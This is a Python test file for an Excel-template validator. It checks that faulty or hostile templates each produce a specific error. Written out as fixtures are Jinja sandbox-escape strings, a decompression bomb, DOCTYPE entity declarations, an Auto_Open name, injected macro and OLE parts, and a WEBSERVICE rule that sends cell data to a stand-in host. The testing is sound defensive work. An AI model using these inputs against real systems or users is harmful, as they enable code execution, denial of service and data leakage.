"""Excel templates that are wrong or meant to harm: each fault has its message, and all are told together."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from scorecards import AS_AT, the_borough
from sheets import EACH, END, PLACE, a_template, as_is, filled, replaced, rewritten
from xlsxwriter.workbook import Workbook
from xlsxwriter.worksheet import Worksheet

from readiness.foundation.errors import SpecificationError
from readiness.render.workbook_from_excel.fill import write_sheets

FIELDS = {"items": ["a"], "scorecard": the_borough(), "day": AS_AT, "name": "Anyshire"}
AS_EXCEL = "Save it in Excel as an Excel Workbook (*.xlsx)"
SEE = "See the templates' README."
DAMAGED = "is damaged and cannot be read. Open it in Excel, save it again and replace it."
ASK = "Do not open it; ask where it came from."
NO_FORMULA = "holds a formula. Reports hold none: put a field or a text there."
LINKED = "shows or refers to something that is linked and not in it. Insert it anew without a link, and save it."
GOOD = a_template([["{{ name }}"]])
BOMB = rewritten(GOOD, as_is, {"xl/media/image1.bin": b"0" * (120 << 20)})
LOCKED = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512) + "EncryptedPackage".encode("utf-16-le") + bytes(512)
OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def related(kind: bytes, target: bytes, elsewhere: bool = False) -> bytes:
    """A workbook that refers to something of a kind."""
    mode = b' TargetMode="External"' if elsewhere else b""
    relation = b'<Relationship Id="rId99" Type="%s%s" Target="%s"%s/></Relationships>' % (OFFICE, kind, target, mode)
    return rewritten(GOOD, replaced("xl/_rels/workbook.xml.rels", b"</Relationships>", relation), {"xl/x.xml": b"<x/>"})


def formula(_: Workbook, sheet: Worksheet) -> None:
    sheet.write_formula("C7", "=SUM(A1:A6)")


def name_with_a_formula(book: Workbook, _: Worksheet) -> None:
    book.define_name("here", "=OFFSET(Report!$A$1,1,1)")


def rule_that_fetches(_: Workbook, sheet: Worksheet) -> None:
    sheet.conditional_format("A1", {"type": "formula", "criteria": '=WEBSERVICE("http://x.test/"&A1)=1'})


def rule_of_another_workbook(_: Workbook, sheet: Worksheet) -> None:
    sheet.data_validation("B1", {"validate": "list", "source": r"='C:\[other.xlsx]Sheet1'!$A$1:$A$3"})


def name_of_another_workbook(book: Workbook, _: Worksheet) -> None:
    book.define_name("here", "=[1]Sheet1!$A$1")


def link_to_a_file(_: Workbook, sheet: Worksheet) -> None:
    sheet.write_url("B1", "external:c:/other.xlsx")


def harmless(book: Workbook, sheet: Worksheet) -> None:
    sheet.conditional_format("A1", {"type": "formula", "criteria": '=AND(ISNUMBER(A1),LEFT(B1,3)="[x]!")'})
    sheet.data_validation("B1", {"validate": "list", "source": "=Report!$A$1:$A$3"})
    sheet.write_url("C1", "https://example.org/")
    sheet.write_url("C2", "internal:'Report'!A1")
    book.define_name("here", "=Report!$A$1:$B$2")


def field_in_a_text_box(_: Workbook, sheet: Worksheet) -> None:
    sheet.insert_textbox("C3", "As at {{ day }}")


def field_in_a_table_heading(_: Workbook, sheet: Worksheet) -> None:
    sheet.add_table("A1:B3", {"name": "Big", "columns": [{"header": "{{ name }}"}, {"header": "Other"}]})


def field_in_a_footer(_: Workbook, sheet: Worksheet) -> None:
    sheet.set_footer("&L{{ nam }}")


def with_macros(_: str, its: bytes) -> bytes:
    main = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return its.replace(main, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")


def at_the_end(_: Workbook, sheet: Worksheet) -> None:
    sheet.write_string("A1048576", "the end")


def two_mistakes(book: Workbook, sheet: Worksheet) -> None:
    sheet.set_footer("{{ nam }}")
    book.add_worksheet("Other").write_string("B2", "{{ scorecard.indicatrs }}")


BAD: dict[str, tuple[bytes, str]] = {
    "an unknown field": (
        a_template([[], ["x", "As at {{ scorecard.as_att | day }}"]]),
        ', sheet Report, cell B2: unknown field "as_att". Did you mean "as_at"?',
    ),
    "an unknown field alone in a cell": (
        a_template([[], [], [], ["{{ dayy }}"]]),
        ', sheet Report, cell A4: unknown field "dayy". Did you mean "day"?',
    ),
    "an unknown field of an item": (
        a_template([["{%tr for each in scorecard.red %}"], ["x", "{{ each.ref }}", "{{ each.ownr }}"], [END]]),
        ', sheet Report, cell C2: unknown field "ownr". Did you mean "owner"?',
    ),
    "an unknown field in a row's tag": (
        a_template([[], ["{%tr for each in scorecard.redd %}"], [END]]),
        ', sheet Report, cell A2: unknown field "redd". Did you mean "red"?',
    ),
    "an unknown field in a footer": (
        a_template([["x"]], field_in_a_footer),
        ', sheet Report, footer: unknown field "nam". Did you mean "name"?',
    ),
    "several": (
        a_template([["{{ dayy }}"]], two_mistakes),
        f', sheet Report, cell A1: unknown field "dayy". Did you mean "day"?\n{PLACE}'
        f', sheet Report, footer: unknown field "nam". Did you mean "name"?\n{PLACE}'
        ', sheet Other, cell B2: unknown field "indicatrs". Did you mean "indicators"?',
    ),
    "a way out": (
        a_template([["{{ name.__class__.__mro__ }}"]]),
        f", sheet Report, cell A1: a field cannot be worked out (SecurityError). {SEE}",
    ),
    "a way to the filler": (
        a_template([["{{ _cell.__self__._rows }}"]]),
        f", sheet Report, cell A1: a field cannot be worked out (SecurityError). {SEE}",
    ),
    "a wrong kind": (
        a_template([["{{ name | number }}"]]),
        f", sheet Report, cell A1: a field cannot be worked out (ValueError). {SEE}",
    ),
    "a tag that is misspelt": (
        a_template([["{{ day | dya }}"]]),
        f", sheet Report, cell A1: a tag cannot be read (No filter named 'dya'). {SEE}",
    ),
    "a row's tag that is misspelt": (
        a_template([["{%tr fro each in items %}"]]),
        f', sheet Report, cell A1: a tag cannot be read (there is no row tag "fro"). {SEE}',
    ),
    "a tag that is not ended in its cell": (
        a_template([["{% if day %}x"]]),
        ", sheet Report, cell A1: a tag cannot be read (Unexpected end of template. Jinja was looking for the following "
        f"tags: 'elif' or 'else' or 'endif'. The innermost block that needs to be closed is 'if'). {SEE}",
    ),
    "a field that is not ended": (
        a_template([["As at {{ day"]]),
        f", sheet Report, cell A1: a tag cannot be read (unexpected end of template, expected 'end of print statement'). {SEE}",
    ),
    "a row's tag that is never ended": (
        a_template([["{%tr if day %}"], [EACH], ["{{ each }}"], [END]]),
        ", sheet Report, cell A1: is never ended. Put a row with {%tr endif %} below the rows that it is for.",
    ),
    "a row's tag that ends nothing": (
        a_template([["x"], [END]]),
        ", sheet Report, cell A2: ends what no row above it begins. Take it out, or put a row above that begins it.",
    ),
    "a row's tag beside something": (
        a_template([[EACH, "x"], [END]]),
        ", sheet Report, cell B1: stands in a row that vanishes with its tag. Move it to another row.",
    ),
    "a row's tag after something": (
        a_template([["x", EACH], ["x"], [END]]),
        ", sheet Report, cell B1: a tag that repeats or keeps rows comes first in its row, and alone in its cell. "
        f"{SEE}\n{PLACE}, sheet Report, cell A3: ends what no row above it begins. "
        "Take it out, or put a row above that begins it.",
    ),
    "rows without end": (
        a_template([["{%tr for a in range(9999) %}"], ["{%tr for b in range(9999) %}"], ["{{ b }}"], [END], [END]]),
        ", sheet Report: repeats rows until there are more than 100,000. Repeat fewer.",
    ),
    "a row that is pushed off": (
        a_template([["{%tr for a in range(4) %}"], ["{{ a }}"], [END]], at_the_end),
        ", sheet Report, row 1048576: would be pushed off the sheet. Move it up in the template.",
    ),
    "a formula": (a_template([["{{ name }}"]], formula), f", sheet Report, cell C7: {NO_FORMULA}"),
    "a name with a formula": (
        a_template([], name_with_a_formula),
        ', name "here": holds a formula. Let it name cells, or delete it.',
    ),
    "a rule that fetches": (
        a_template([], rule_that_fetches),
        ", sheet Report: has a rule that fetches something from elsewhere. Take it out.",
    ),
    "a rule that reads another workbook": (
        a_template([], rule_of_another_workbook),
        ", sheet Report: has a rule that fetches something from elsewhere. Take it out.",
    ),
    "a name of another workbook": (
        a_template([], name_of_another_workbook),
        ', name "here": refers to something that is not in the workbook. Let it name cells, or delete it.',
    ),
    "a name that runs": (
        rewritten(a_template([], harmless), replaced("xl/workbook.xml", b'name="here"', b'name="_xlnm.Auto_Open"')),
        ', name "_xlnm.Auto_Open": runs when the workbook is opened. Delete it.',
    ),
    "a link to a file": (
        a_template([], link_to_a_file),
        ": has a link that leads to neither a web page nor an e-mail address. "
        "Let it begin with https://, http:// or mailto:, or take it off.",
    ),
    "a field in a text box": (
        a_template([], field_in_a_text_box),
        ", sheet Report: has a field in a text box or a chart, where none is filled. "
        "Put it in a cell, and let the box or the title show that cell.",
    ),
    "a field in a heading of a table": (
        a_template([], field_in_a_table_heading),
        ', sheet Report: has a field in a heading of the table "Big". '
        "Write the heading out, or make the table a plain range.",
    ),
    "a link to another workbook": (related(b"externalLink", b"x.xml"), f": {LINKED}"),
    "a linked picture": (related(b"image", b"file:///C:/x.png", True), f": {LINKED}"),
    "a pivot table": (
        related(b"pivotCacheDefinition", b"x.xml"),
        ": has a pivot table, which keeps figures of its own. Put fields in its place.",
    ),
    "a sheet of macros": (related(b"xlMacrosheet", b"x.xml"), f": has macros. {AS_EXCEL}, which keeps none."),
    "another program's object": (
        related(b"oleObject", b"x.xml"),
        ": has a control or another program's object in it. Take it out.",
    ),
    "macros": (rewritten(GOOD, with_macros), f": has macros. {AS_EXCEL}, which keeps none."),
    "macros in a workbook that hides them": (
        rewritten(GOOD, as_is, {"xl/vbaProject.bin": b""}),
        f": has macros. {AS_EXCEL}, which keeps none.",
    ),
    "no zip at all": (b"Dear colleagues", f": is not an Excel workbook, whatever its ending says. {AS_EXCEL}."),
    "another zip": (
        rewritten(GOOD, lambda name, its: b"" if "Types" in name else its),
        f": is not an Excel workbook, whatever its ending says. {AS_EXCEL}.",
    ),
    "a password": (LOCKED, ": is locked with a password. Save it without one."),
    "a cut file": (GOOD[: len(GOOD) // 2], f": {DAMAGED}"),
    "a cut part": (rewritten(GOOD, lambda name, its: its[:-20] if "sheet1" in name else its), f": {DAMAGED}"),
    "a part that is not there": (rewritten(GOOD, replaced("xl/workbook.xml", b"rId1", b"rId9")), f": {DAMAGED}"),
    "a shared text that is not there": (
        rewritten(GOOD, replaced("xl/worksheets/sheet1.xml", b"<v>0</v>", b"<v>9</v>")),
        f": {DAMAGED}",
    ),
    "a bomb": (BOMB, f": unpacks to far more than a workbook could hold. {ASK}"),
    "a document type": (
        rewritten(GOOD, replaced("xl/styles.xml", b"<styleSheet", b'<!DOCTYPE s [<!ENTITY a "aa">]><styleSheet')),
        f": declares a document type, which no Excel workbook needs. {ASK}",
    ),
    "a document type in other letters": (
        rewritten(
            GOOD,
            lambda name, its: (
                its.decode()
                .replace('encoding="UTF-8" standalone="yes"', 'encoding="UTF-16"')
                .replace("<sst", '<!DOCTYPE s [<!ENTITY a "aa">]><sst')
                .encode("utf-16")
                if name == "xl/sharedStrings.xml"
                else its
            ),
        ),
        f": {DAMAGED}",
    ),
}


@pytest.mark.parametrize("name", BAD)
def test_each_fault_of_a_template_has_its_message(name: str, tmp_path: Path) -> None:
    content, message = BAD[name]
    with pytest.raises(SpecificationError) as told:
        filled(content, tmp_path, FIELDS)
    assert str(told.value) == f"{PLACE}{message}"


def test_rules_names_and_links_that_stay_inside_pass(tmp_path: Path) -> None:
    filled(a_template([["{{ name }}"]], harmless), tmp_path, FIELDS)


def test_a_template_that_is_not_there_has_its_message(tmp_path: Path) -> None:
    with pytest.raises(SpecificationError) as told:
        write_sheets(tmp_path / "none.xlsx", PLACE, {}, "A report", AS_AT)
    do = "Close it in other programs, and check that you may read it."
    assert str(told.value) == f"{PLACE}: cannot be read. {do}"


@pytest.mark.parametrize("wrong", ["nonsense", "", "A0:B", "7"])
def test_places_of_cells_that_are_none_are_told_and_do_not_stop_the_program(wrong: str, tmp_path: Path) -> None:
    def make(book: Workbook, sheet: Worksheet) -> None:
        sheet.merge_range("D6:E6", "both", book.add_format())

    content: Any = a_template([[EACH], ["{{ each }}"], [END]], make)
    content = rewritten(content, replaced("xl/worksheets/sheet1.xml", b'ref="D6:E6"', f'ref="{wrong}"'.encode()))
    try:
        filled(content, tmp_path, FIELDS)
    except SpecificationError as told:
        assert str(told) == f"{PLACE}: {DAMAGED}"
